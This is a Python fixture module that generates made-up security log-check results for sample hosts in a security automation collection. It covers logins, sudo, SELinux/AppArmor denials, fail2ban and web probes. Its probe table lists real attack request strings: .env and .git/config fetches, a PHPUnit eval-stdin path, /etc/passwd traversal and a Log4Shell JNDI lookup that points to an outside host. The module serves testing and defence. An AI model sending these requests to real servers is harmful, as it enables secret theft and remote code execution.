# Copyright (c) 2026 The bottomup.security authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Made-up data of the log checks for a host of the sample fleet, in the shapes of the real ones; the same for the same name."""

from __future__ import annotations

import random
from typing import Any

from ansible_collections.bottomup.security.plugins.module_utils.host.finding import iso

NOON = 1795327200.0  # 2026-11-22T06:00:00Z: the run
SINCE = NOON - 86400

# signature, category, request, status
PROBES = (
    ("dotenv", "secrets", "GET /.env HTTP/1.1", "404"),
    ("git", "vcs", "GET /.git/config HTTP/1.1", "404"),
    ("wp_login", "cms", "POST /wp-login.php HTTP/1.1", "404"),
    ("phpunit", "known_exploits", "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "404"),
    ("master_key", "rails", "GET /config/master.key HTTP/1.1", "404"),
    ("etc_passwd", "traversal", "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1", "400"),
    ("jndi", "log4shell", "GET /?x=${jndi:ldap://203.0.113.66/a} HTTP/1.1", "404"),
)

CLIENTS = ("203.0.113.9", "198.51.100.23", "2001:db8:9d:3b::/64", "192.0.2.144", "203.0.113.66", "198.51.100.201")


def results(name: str, web: bool = True, ago: int = 0) -> dict[str, Any]:
    """Return check -> result with data for a host; what is seen for the first time today was not there some days ago."""
    chance = random.Random(name)
    said: dict[str, Any] = {"log_digest": _log_digest(chance, ago), "denials": _denials(chance), "fail2ban": _fail2ban(chance)}
    if web:
        said["web_probes"] = _web_probes(chance, ago)
    return {check: {"status": "ok", "status_reason": "", "findings": [], "data": data} for check, data in said.items()}


def _hours(chance: random.Random, **columns: tuple[int, int]) -> list[dict[str, Any]]:
    """Return a row for each of the last 24 hours; a column is (least, most), more of it at night or by day as it happens."""
    return [{"hour": iso(SINCE + 3600 * hour), **{name: chance.randint(*limits) for name, limits in columns.items()}} for hour in range(24)]


def _log_digest(chance: random.Random, ago: int) -> dict[str, Any]:
    hours = _hours(chance, lines=(300, 2400), accepted=(0, 1), failed=(0, 40))
    failed = sum(hour["failed"] for hour in hours)
    accepted = sum(hour["accepted"] for hour in hours)
    upgraded = chance.choice((0, 0, 1))
    return {
        "source": "journal",
        "window": {"since": iso(SINCE), "until": iso(NOON)},
        "lines": sum(hour["lines"] for hour in hours),
        "hours": hours,
        "logins": {
            "accepted_total": accepted + 1,
            "accepted": [
                {"user": "deploy", "address": "198.51.100.7", "method": "publickey", "key": "ED25519 SHA256:aY1", "count": accepted + 1},
                *(
                    [{"user": "root", "address": "192.0.2.10", "method": "publickey", "key": "RSA SHA256:bZ2", "count": 1}]
                    if chance.random() < 0.1 and not ago
                    else []
                ),
            ],
            "failed_total": failed,
            "invalid_user_total": failed // 3,
            "failed_by_address": [
                {"address": address, "failed": failed // (place + 2), "invalid_user": 0} for place, address in enumerate(CLIENTS[: chance.randint(1, 5)])
            ],
            "failed_by_user": [{"user": "root", "failed": failed // 2, "invalid_user": 0}],
        },
        "sudo": {
            "total": 3,
            "refused_total": 0,
            "commands": [{"by": "sudo", "user": "deploy", "target": "root", "command": "/usr/bin/systemctl restart puma", "count": 3}],
        },
        "su": {"total": 0, "failed_total": 0},
        "accounts": [{"what": "user added", "name": "anna", "detail": "", "count": 1}] if chance.random() < 0.05 else [],
        "packages": {
            "upgraded_total": upgraded,
            "upgraded": [{"name": "nginx", "version": "1.22.1-9+deb12u3", "before": "1.22.1-9+deb12u2"}][:upgraded],
            "installed_total": 0,
            "removed_total": 0,
        },
        "units": {"failed_now": ["certbot.service"] if chance.random() < 0.1 else [], "failures": [], "restarts": []},
        "kernel": [{"what": "oom", "subject": "ruby", "count": 2}] if chance.random() < 0.06 else [],
        "cron": {"jobs_started": 61, "failures": [], "not_run": [], "output_lost": 0},
        "disks": [{"mount": "/", "used_percent": chance.randint(20, 88)}, {"mount": "/var", "used_percent": chance.randint(30, 93)}],
        "boots": [{"time": iso(SINCE + 5000), "clean": True}] if chance.random() < 0.1 else [],
        "clock_synchronised": True,
        "errors": [{"program": "puma", "message": "connection reset", "count": chance.randint(1, 20)}] if chance.random() < 0.3 else [],
        "unmatched": {"total": chance.randint(0, 30), "samples": [{"program": "shop", "count": 3, "sample": "…"}]},
        "cut": {},
    }


def _denials(chance: random.Random) -> dict[str, Any]:
    groups = [
        {
            "id": "8c1f6f3a5f0e",
            "kind": "selinux",
            "source_type": "httpd_t",
            "target_type": "unreserved_port_t",
            "tclass": "tcp_socket",
            "perms": ["name_connect"],
            "comm": "nginx",
            "port": 8443,
            "severity": "medium",
            "blocked": "blocked",
            "count": 218,
            "last": iso(NOON - 240),
            "suggestion": {
                "text": "httpd_t may not connect to port 8443. If it should, give the port its type.",
                "commands": ["semanage port -a -t http_port_t -p tcp 8443"],
            },
        },
        {
            "id": "11d0c9e2ab44",
            "kind": "apparmor",
            "source_type": "/usr/sbin/mysqld",
            "target_type": "",
            "path_pattern": "/srv/dumps/*",
            "tclass": "open",
            "perms": ["r"],
            "comm": "mysqld",
            "severity": "info",
            "blocked": "allowed (permissive)",
            "count": 12,
            "last": iso(NOON - 7200),
            "suggestion": {"text": "The profile only complains. Give it the rule before it enforces.", "commands": ["aa-logprof"]},
        },
    ]
    kept = groups[: 1 + (chance.random() < 0.3)]
    denied = sum(group["count"] for group in kept)
    return {
        "mode": {"enabled": True, "runtime": "enforcing", "config": "enforcing"},
        "totals": {"denied": denied, "blocked": 218, "allowed_permissive": denied - 218},
        "groups": kept,
        "hours": _hours(chance, denials=(0, 24)),
        "events": [],
    }


def _fail2ban(chance: random.Random) -> dict[str, Any]:
    return {"tool": "fail2ban", "jails": [{"name": "sshd", "banned": chance.randint(0, 40), "new_bans": chance.randint(0, 90)}]}


def _web_probes(chance: random.Random, ago: int) -> dict[str, Any]:
    hours = _hours(chance, lines=(4000, 52000), hits=(0, 60))
    clients = []
    for address in CLIENTS[: 1 + chance.randint(0, len(CLIENTS) - 1)]:
        probes = chance.sample(PROBES[2:], 2) + list(PROBES[:2])
        clients.append(
            {
                "client": address,
                "hits": chance.randint(4, 400),
                "answered": 0,
                "categories": {category: chance.randint(1, 90) for _signature, category, _request, _status in probes},
                "first": iso(NOON - 40000),
                "last": iso(NOON - chance.randint(100, 30000)),
                "samples": [
                    {"request": request, "status": status, "category": category, "signature": signature} for signature, category, request, status in probes
                ],
            }
        )
    hits = sum(hour["hits"] for hour in hours)
    clients = [client for client in clients if not (ago and client["client"] == CLIENTS[-2])]
    return {
        "window": {"since": iso(SINCE), "until": iso(NOON)},
        "totals": {"lines": sum(hour["lines"] for hour in hours), "unparsed": 0, "hits": hits, "answered": 0, "clients": len(clients)},
        "hits_by_category": {"secrets": hits // 2, "vcs": hits // 4, "cms": hits // 5},
        "clients": clients,
        "hours": hours,
    }
